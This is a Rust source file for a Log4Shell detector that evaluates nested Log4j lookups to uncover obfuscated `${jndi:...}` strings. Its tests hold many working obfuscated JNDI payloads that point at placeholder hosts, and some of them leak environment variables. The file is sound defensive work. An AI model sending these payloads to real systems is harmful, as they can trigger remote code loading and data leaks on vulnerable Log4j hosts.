//! Log4Shell: a `${jndi:<protocol>:...}` lookup, found after evaluating Log4j's other lookups the
//! way Log4j itself does, innermost first: `${lower:j}` → `j`, `${upper:n}` → `N`, `${::-j}` and
//! `${env:NOPE:-j}` → their default `j`, `${date:'j'}` → `j`. Attackers spell every character
//! of `jndi:ldap` with such a lookup, nested to any depth, so a literal or a regex cannot follow;
//! a small evaluator can. Log4j treats lookup prefixes and URL schemes case-insensitively, so
//! the check does too.
//!
//! The data pool labels JNDI as `deserialization` (the lookup loads a remote Java class), so the
//! reason is `deserialization:jndi-lookup`. Whoever logs the value with a vulnerable Log4j is hit,
//! even when the value is prose in a chat message, so the finding is level 1 in every place.
//!
//! Linear: each byte is pushed into at most one open lookup buffer; a closed lookup hands its
//! value (at most [`KEEP`] bytes) to its parent, and nesting stops at [`MAX_DEPTH`].

use crate::{Check, Finding, Input, Trigger};

pub struct Jndi;

/// Bytes of each lookup's text kept: the prefix decides (`jndi:` + protocol + `://`), and a
/// default (`:-j`) is short. Longer text is dropped, braces still counted.
const KEEP: usize = 96;
/// Deeper nesting is read as literal text (Log4j itself recurses without bound; attacks use a
/// few levels).
const MAX_DEPTH: usize = 32;

/// JNDI service providers an attacker can make a JVM load a class or reach out from.
const PROTOCOLS: &[&str] = &["ldaps", "ldap", "rmi", "dns", "iiop", "corba", "nds", "nis", "https", "http"];

impl Check for Jndi {
    fn trigger(&self) -> Trigger {
        // A `${` lookup, or one percent-encoded (`%24%7B`).
        Trigger::any_of(b"$%")
    }

    fn detector(&self) -> &'static str {
        "deserialization"
    }

    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
        // A field the engine gives no decoded view (a credential header such as
        // Authorization) can still hold `%24%7B...`: undo up to three percent layers here.
        let decoded;
        let text = if input.bytes.all(b"${:") {
            input.text.as_bytes()
        } else if input.bytes.all(b"%24") && has_encoded_open(input.text.as_bytes()) {
            let mut t = input.text.as_bytes().to_vec();
            for _ in 0..3 {
                if !t.contains(&b'%') {
                    break;
                }
                t = crate::mail::percent_decode(&t);
            }
            decoded = t;
            &decoded[..]
        } else {
            return None;
        };
        let (level, reason) = match scan(text, 0) {
            Scan { jndi: Some(level), .. } => (level, "deserialization:jndi-lookup"),
            Scan { spelled: true, .. } => (1, "deserialization:log4j-obfuscation"),
            _ => return None,
        };
        (level <= input.sensitivity).then_some(Finding { reason, score: 0.95, level })
    }
}

/// Whether `text` holds a Log4j lookup the check reports at any level. For text the engine
/// keeps out of its fields (a Basic password): it still reaches a logger, so one holding a
/// lookup is scored after all.
pub fn has_log4j_lookup(text: &str) -> bool {
    let mut input = Input::new(text);
    input.place = crate::Place::Header;
    input.sensitivity = 4;
    (input.bytes.any(b"$%")) && Jndi.inspect(&input).is_some()
}

/// `%24` (or `%2524`...) right before `{`/`%7B`: an encoded lookup opener.
fn has_encoded_open(b: &[u8]) -> bool {
    b.windows(5).any(|w| w[0] == b'%' && (w[1..3] == *b"24" || w[1..3] == *b"25"))
        && b.windows(3).any(|w| w[0] == b'%' && (w[1..] == *b"7B" || w[1..] == *b"7b" || w[1..] == *b"25"))
}

/// What [`scan`] found.
#[derive(Default, Debug, PartialEq)]
struct Scan {
    /// The lowest level of a JNDI lookup: 1 for a known protocol, 2 for `jndi:` followed by
    /// something else (a protocol spelled by a lookup Log4j would resolve from the environment).
    jndi: Option<u8>,
    /// A lookup whose only use is to spell text past a filter: `${lower:j}`, `${upper:ndi}`,
    /// `${upper:ı}`, `${::-j}`, `${:-j}`, `${date:'j'}`. No template needs one (a case lookup
    /// of literal text, a default with no variable name, a date pattern of quoted literals
    /// only), so one is a Log4Shell probe even when the rest was cut off.
    spelled: bool,
}

impl Scan {
    fn note(&mut self, level: u8) {
        self.jndi = Some(self.jndi.map_or(level, |b| b.min(level)));
    }
}

/// Nested evaluation: a lookup's value that holds another `${` (a `${base64:...}` decoding to
/// a lookup) is scanned again, this many times at most.
const MAX_RESCAN: usize = 2;

fn scan(text: &[u8], rescan: usize) -> Scan {
    let mut found = Scan::default();
    scan_into(text, rescan, &mut found);
    found
}

fn scan_into(text: &[u8], rescan: usize, found: &mut Scan) {
    let mut stack: Vec<Vec<u8>> = Vec::new();
    let mut i = 0;
    while i < text.len() {
        let b = text[i];
        if b == b'$' && text.get(i + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
            stack.push(Vec::new());
            i += 2;
            continue;
        }
        if b == b'}' {
            if let Some(body) = stack.pop() {
                if let Some(level) = jndi_level(&body) {
                    found.note(level);
                    if level == 1 {
                        return;
                    }
                }
                let mut value = Vec::new();
                found.spelled |= evaluate(&body, &mut value);
                if rescan < MAX_RESCAN && find(&value, b"${").is_some() {
                    let inner = scan(&value, rescan + 1);
                    found.spelled |= inner.spelled;
                    if let Some(level) = inner.jndi {
                        found.note(level);
                        if level == 1 {
                            return;
                        }
                    }
                }
                if let Some(parent) = stack.last_mut() {
                    let room = KEEP.saturating_sub(parent.len());
                    parent.extend_from_slice(&value[..value.len().min(room)]);
                }
                i += 1;
                continue;
            }
        }
        if let Some(top) = stack.last_mut() {
            if top.len() < KEEP {
                top.push(b);
            }
        }
        i += 1;
    }
    // An unclosed lookup (a truncated field, or one whose closing brace was cut by the
    // attacker's own encoding) still shows its intent.
    // Evaluated too: a `${base64:...}` whose padding `=` ended the field (a cookie splits its
    // name from its value there) decodes to the lookup all the same.
    for body in &stack {
        if let Some(level) = jndi_level(body) {
            found.note(level);
        }
        let mut value = Vec::new();
        found.spelled |= evaluate(body, &mut value);
        if let Some(level) = jndi_level(&value) {
            found.note(level);
        }
    }
}

/// `Some(level)` when a lookup's evaluated text is a JNDI lookup.
fn jndi_level(body: &[u8]) -> Option<u8> {
    let body = trim_start(body);
    if body.len() < 5 || !body[..5].eq_ignore_ascii_case(b"jndi:") {
        return None;
    }
    let rest = trim_start(&body[5..]);
    // `${jndi:rmi}` closed early by a stray `}` (`...${lower:r}m${lower:i}}://host/a}`) still
    // names the protocol: the attacker's intent, whatever Log4j makes of the rest.
    let known = PROTOCOLS.iter().any(|p| {
        rest.len() >= p.len() && rest[..p.len()].eq_ignore_ascii_case(p.as_bytes()) && matches!(rest.get(p.len()), Some(b':') | None)
    });
    Some(if known { 1 } else { 2 })
}

fn trim_start(text: &[u8]) -> &[u8] {
    let skip = text.iter().take_while(|b| b.is_ascii_whitespace()).count();
    &text[skip..]
}

/// Appends what Log4j substitutes for the lookup `${body}` to `out` (at most [`KEEP`] bytes
/// kept): a case lookup's converted argument, a date pattern's quoted literals, a
/// `base64:` argument decoded, an unknown variable's `:-` default; any other lookup stays as
/// written, so its text cannot spell anything. Returns whether the lookup only spells a
/// character (see [`Scan::spelled`]).
fn evaluate(body: &[u8], out: &mut Vec<u8>) -> bool {
    let room = KEEP.saturating_sub(out.len());
    let (name, default) = match find(body, b":-") {
        Some(at) => (&body[..at], Some(&body[at + 2..])),
        None => (body, None),
    };
    let (prefix, arg) = match name.iter().position(|&b| b == b':') {
        Some(at) => (&name[..at], &name[at + 1..]),
        None => (&[][..], name),
    };
    let one_char = |t: &[u8]| !t.is_empty() && String::from_utf8_lossy(t).chars().count() == 1;
    let case = prefix.eq_ignore_ascii_case(b"lower") || prefix.eq_ignore_ascii_case(b"upper");
    // A case lookup of any literal text (`${lower:J}`, `${upper:ndi}`, `${lower:<text>}`):
    // Log4j's `lower`/`upper` lookups have no use in data but to reshape text past a filter,
    // and no other template language spells them `${lower:...}`.
    let spelled = (case && (!arg.is_empty() || default.is_some_and(one_char)))
        || (name.iter().all(|&b| b == b':') && default.is_some_and(|d| !d.is_empty() && d.len() <= 4))
        || (prefix.eq_ignore_ascii_case(b"date") && arg.first() == Some(&b'\'') && arg.last() == Some(&b'\'') && arg.len() <= 6);
    // Log4j splits off the `:-` default before it resolves the lookup, so `${lower:J:-x}` is `j`;
    // `${upper::-j}` has nothing to convert and is read as its default, converted.
    let value: Vec<u8> = if case {
        let upper = prefix.eq_ignore_ascii_case(b"upper");
        match default {
            Some(d) if arg.is_empty() => case_map(d, upper),
            _ => case_map(arg, upper),
        }
    } else if prefix.eq_ignore_ascii_case(b"date") {
        quoted_literals(arg)
    } else if prefix.eq_ignore_ascii_case(b"base64") {
        crate::base64::decode(arg.trim_ascii()).unwrap_or_default()
    } else if let Some(default) = default {
        // `${::-j}`, `${env:NOPE:-j}`, `${sys:x:-n}`, `${foo:-j}`: the variable is unset on the
        // attacked host (the attacker picks a name that is), so Log4j yields the default.
        default.to_vec()
    } else {
        let mut kept = b"${".to_vec();
        kept.extend_from_slice(body);
        kept.push(b'}');
        kept
    };
    out.extend_from_slice(&value[..value.len().min(room)]);
    spelled
}

/// Java's case mapping of the text; non-ASCII letters map as Java maps them (`ı` upper-cases to
/// `I`, which attackers use to spell `JNDI` past a filter on ASCII `i`).
fn case_map(text: &[u8], upper: bool) -> Vec<u8> {
    let text = String::from_utf8_lossy(text);
    let mapped = if upper { text.to_uppercase() } else { text.to_lowercase() };
    mapped.into_bytes()
}

/// The literal text of a `SimpleDateFormat` pattern: what is inside single quotes.
fn quoted_literals(pattern: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut inside = false;
    for &b in pattern {
        if b == b'\'' {
            inside = !inside;
        } else if inside {
            out.push(b);
        }
    }
    out
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::scan;

    fn level(text: &str) -> Option<u8> {
        scan(text.as_bytes(), 0).jndi
    }

    fn spelled(text: &str) -> bool {
        scan(text.as_bytes(), 0).spelled
    }

    #[test]
    fn plain_and_nested_lookups() {
        assert_eq!(level("${jndi:ldap://evil.example/a}"), Some(1));
        assert_eq!(level("${${lower:j}ndi:${lower:l}dap://evil.example/a}"), Some(1));
        assert_eq!(level("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}"), Some(1));
        assert_eq!(level("${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x/a}"), Some(1));
        assert_eq!(level("${${date:'j'}${date:'n'}di:dns://x}"), Some(1));
        assert_eq!(level("${${upper:${lower:J}}NDI:LDAP://x}"), Some(1));
        assert_eq!(level("${jnd${upper:ı}:ldap://x}"), Some(1));
        assert_eq!(level("${${lower:${lower:${lower:j}}}ndi:iiop://x}"), Some(1));
        assert_eq!(level("${jndi:ldap://x/${env:USER}"), Some(1));
        assert_eq!(level("${jndi:${env:P}://x}"), Some(2));
        assert_eq!(level("${${upper::-j}${upper::-n}${::-d}${upper::-i}:${upper::-l}dap://x/a}"), Some(1));
        assert_eq!(level("${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://x/poc}"), Some(1));
        assert_eq!(level("${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlL2E=}}"), Some(1));
        assert_eq!(level("${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}"), Some(1));
        assert_eq!(level("$${jndi:ldap://x/a}"), Some(1));
        // Cut at the base64 padding, as a cookie name is: `${${base64:...` + `=` + `}}`.
        assert_eq!(level("${${base64:am5kaTpjb3JiYTovLyR7ZW52OlVTRVJ9LmV2aWwuZXhhbXBsZS8zNTAyMDc"), Some(1));
    }

    #[test]
    fn percent_encoded_in_a_field_without_a_decoded_view() {
        use crate::{Check, Input};
        let input = Input::new("Bearer%20%24%7BjNdi%3ANis%3A%2F%2F198.51.100.198%3A80%2FExploit%7D");
        assert!(super::Jndi.inspect(&input).is_some());
        assert!(super::Jndi.inspect(&Input::new("100%25 of %7Bitems%7D")).is_none());
    }

    #[test]
    fn spelling_lookups_alone() {
        for text in ["${lower:j}", "a${upper:ı}b", "${::-n}", "${:-d}", "${date:'i'}", "${upper::-j}", "${lower:World}", "${upper:nDi}"] {
            assert!(spelled(text), "{text}");
        }
        for text in ["${lower}", "${env:HOME:-/root}", "${name:-world}", "${date:yyyy-MM-dd}", "${sys:user.home}"] {
            assert!(!spelled(text), "{text}");
        }
    }

    #[test]
    fn templates_pass() {
        for text in ["${HOME}/bin", "echo ${name:-world}", "${user.name} jndi: notes", "Hello ${lower:World}", "}}}${", "${"] {
            assert_eq!(level(text), None, "{text}");
        }
    }
}
